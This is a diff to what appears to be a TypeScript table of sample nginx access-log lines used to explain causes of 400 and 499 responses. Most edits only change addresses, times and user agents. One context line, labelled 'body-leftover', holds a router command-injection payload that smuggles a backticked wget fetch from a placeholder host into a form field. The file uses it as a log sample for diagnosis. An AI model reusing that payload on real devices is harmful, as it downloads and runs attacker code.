@@ -34,9 +34,9 @@ export const EXAMPLES: Readonly<Record<CauseId, string>> = {
   'half-close':
     '192.0.2.33 - - [21/Aug/2023:05:00:00 +0000] "GET /reading/7 HTTP/1.0" 499 0 "-" "-" rt=0.003 urt=0.003 us=-',
   'cookie-or-header-too-large':
-    '198.51.100.18 - - [05/Mar/2024:18:00:40 -0500] "GET /soups/leek HTTP/1.1" 400 226 "https://recipes.example.com/soups/" "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:123.0) Gecko/20100101 Firefox/123.0"',
+    '198.51.100.10 - - [12/Aug/2010:20:20:00 -0400] "GET /bread/rye HTTP/1.1" 400 166 "http://recipes.example.com/bread/" "Mozilla/5.0 (Windows; U; Windows NT 6.1; en-US; rv:1.9.2.8) Gecko/20100722 Firefox/3.6.8"',
   'invalid-header':
-    '203.0.113.4 - - [20/May/2026:07:00:08 +0200] "GET / HTTP/1.1" 400 157 "-" "-"',
+    '203.0.113.2 - - [20/May/2026:06:30:00 +0200] "GET / HTTP/1.1" 400 157 "-" "-"',
   'client-timeout':
     '192.0.2.60 - - [20/Nov/2023:08:00:25 +0000] "POST /v2/sync HTTP/1.1" 499 0 "-" "okhttp/4.12.0" rt=10.001 urt=10.001 us=-',
   'balancer-timeout':
@@ -44,27 +44,27 @@ export const EXAMPLES: Readonly<Record<CauseId, string>> = {
   'monitor-timeout':
     '192.0.2.151 - - [15/Apr/2024:06:00:12 +0200] "HEAD / HTTP/1.1" 499 0 "-" "Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)"',
   'slow-upstream':
-    '198.51.100.11 - - [14/Jul/2023:12:00:02 -0400] "GET /seats/112 HTTP/1.1" 499 0 "https://arena.example.com/" "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/114.0.0.0 Safari/537.36" "-"',
+    '198.51.100.61 - - [14/Jul/2023:10:00:02 -0400] "GET /seats/11 HTTP/1.1" 499 0 "https://arena.example.com/" "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/114.0.0.0 Safari/537.36" "-"',
   'held-by-nginx':
     '198.51.100.70 - - [09/Oct/2024:13:20:13 +0100] "POST /login HTTP/1.1" 499 0 "https://files.example.org/login" "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/129.0.0.0 Safari/537.36" rt=2.412 urt=- us=-',
   'tls-to-plain-port':
     '192.0.2.80 - - [12/Jun/2025:15:00:10 +0000] "\\x16\\x03\\x01\\x00\\x8A\\x01\\x00\\x00\\x86\\x03\\x03\\x96\\xDA3\\xEA\\xF9\\x8C\\xEE]y\\x0E\\xAB\\x828\\x9C:\\xECK~\\xB3\\xCA8V\\xFAr\\x14C3+\\x18s\\xC7\\x8B _3z\\xCBU?\\xA5\\xCCin7\\x12pyO8\\x1E\\xA8\\xD4\\xA1\\xB0V\\xAC\\xDD\\xE3Fg\\xCAc<n\\x15\\x00\\x12\\x13\\x01\\x13\\x02\\x13\\x03\\xC0+\\xC0/\\xC0,\\xC00\\xCC\\xA9\\xCC\\xA8\\x01\\x00\\x00+\\x00\\x00\\x00\\x14\\x00\\x12\\x00\\x00\\x0Fwww.example.com\\x00\\x10\\x00\\x0B\\x00\\x09\\x08http/1.1\\x00\\x17\\x00\\x00" 400 157 "-" "-"',
   'plain-http-to-tls-port':
-    '198.51.100.90 - - [09/Jul/2018:11:00:14 +0200] "GET / HTTP/1.1" 400 682 "-" "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/64.0.3282.186 Safari/537.36"',
+    '192.0.2.92 - - [09/Jul/2018:10:20:50 +0200] "GET /rates.json HTTP/1.1" 400 280 "-" "curl/7.58.0"',
   'http2-to-http1-port':
     '192.0.2.101 - - [19/Aug/2024:16:00:00 +0530] "PRI * HTTP/2.0" 400 157 "-" "-"',
   'proxy-protocol-mismatch':
     '192.0.2.20 - - [10/Feb/2025:22:00:05 +0000] "PROXY TCP4 203.0.113.9 192.0.2.21 51234 80" 400 150 "-" "-"',
   'client-certificate-missing':
-    '192.0.2.56 - - [30/Oct/2023:10:00:20 +0100] "POST /v1/orders HTTP/1.1" 400 237 "-" "Java/11.0.20"',
+    '192.0.2.56 - - [30/Oct/2023:09:20:00 +0100] "POST /v1/orders HTTP/1.1" 400 237 "-" "Java/11.0.20"',
   'client-certificate-invalid':
-    '192.0.2.71 - - [01/Mar/2021:00:00:10 +0000] "POST /telemetry/7 HTTP/1.1" 400 224 "-" "python-urllib3/1.26.3"',
+    '192.0.2.69 - - [28/Feb/2021:23:40:00 +0000] "POST /telemetry/6 HTTP/1.1" 400 224 "-" "python-urllib3/1.26.3"',
   'invalid-request-line':
     '203.0.113.17 - - [02/May/2023:13:00:00 -0700] "get / HTTP/1.1" 400 157 "-" "-"',
   'invalid-body':
     '192.0.2.110 - - [15/Jan/2025:20:00:12 +0100] "POST /receipts HTTP/1.1" 400 157 "-" "TillOS/4.2" rt=1.204 urt=- us=-',
   'invalid-http2-request':
-    '192.0.2.131 - - [01/Jun/2026:10:00:15 +0900] "-" 400 157 "-" "Wget/1.21.3"',
+    '192.0.2.130 - - [01/Jun/2026:09:58:00 +0900] "-" 400 157 "-" "h2load nghttp2/1.64.0"',
   'body-leftover':
     '203.0.113.23 - - [07/Sep/2023:04:00:00 +0000] "XWebPageName=diag&diag_action=ping&wan_conlist=0&dest_host=`wget+http://192.0.2.66/gpon80`&ipv=0" 400 157 "-" "-"',
   'blank-request':
@@ -78,7 +78,7 @@ export const EXAMPLES: Readonly<Record<CauseId, string>> = {
   'port-scan':
     '203.0.113.240 - - [19/Jan/2012:03:12:59 -0300] "-" 400 0 "-" "-"',
   'application-400':
-    '198.51.100.160 - - [04/Oct/2021:12:00:31 +0000] "POST /api/bookings HTTP/1.1" 400 61 "https://bookings.example.com/new" "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/94.0.0.0 Safari/537.36"',
+    '192.0.2.160 - - [04/Oct/2021:11:00:31 +0000] "POST /api/bookings HTTP/1.1" 400 61 "-" "okhttp/4.9.1"',
   'application-499':
     '198.51.100.81 - - [22/Jan/2025:09:00:12 +0900] "POST /api/hold HTTP/1.1" 499 54 "https://clinic.example.com/" "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36" rt=0.104 urt=0.104 us=499',
   'configured-response':
